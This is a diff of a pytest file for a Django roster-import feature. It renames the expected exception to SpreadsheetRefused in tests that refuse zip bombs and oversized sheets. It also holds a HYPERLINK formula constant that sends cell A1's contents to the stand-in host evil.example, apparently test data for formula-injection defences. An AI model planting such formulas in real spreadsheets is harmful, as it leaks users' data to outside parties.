@@ -18,11 +18,10 @@ from tests.access import LOGIN, NOT_FOUND, check_access
 from tests.people.test_roster_import import good_rows
 from tests.sheets import workbook_bytes
 from touyan.accounts.scopes import UNLIMITED
-from touyan.core.spreadsheets import SafeWorkbook
+from touyan.core.spreadsheets import SafeWorkbook, SpreadsheetRefused
 from touyan.core.uploads import excerpt, shorten
 from touyan.people.models import RosterImport, School
 from touyan.people.roster.importer import plan_import
-from touyan.people.roster.reading import RosterFileError
 
 PACKAGE = Path(__file__).resolve().parents[2] / "touyan"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
@@ -153,10 +152,10 @@ def test_a_zip_bomb_is_refused_in_seconds_with_memory_flat(client, cast):
 @pytest.mark.django_db
 def test_too_many_rows_or_cells_are_refused_while_streaming(settings):
     settings.SPREADSHEET_LIMITS = {"roster": {"unpacked": 10 * 2**20, "rows": 3, "cells": 10**6}}
-    with pytest.raises(RosterFileError, match="超过 3 行"):
+    with pytest.raises(SpreadsheetRefused, match="超过 3 行"):
         plan_import(workbook_bytes(good_rows()), scope=UNLIMITED)
     settings.SPREADSHEET_LIMITS = {"roster": {"unpacked": 10 * 2**20, "rows": 100, "cells": 30}}
-    with pytest.raises(RosterFileError, match="超过 30 个单元格"):
+    with pytest.raises(SpreadsheetRefused, match="超过 30 个单元格"):
         plan_import(workbook_bytes(good_rows()), scope=UNLIMITED)
 
 
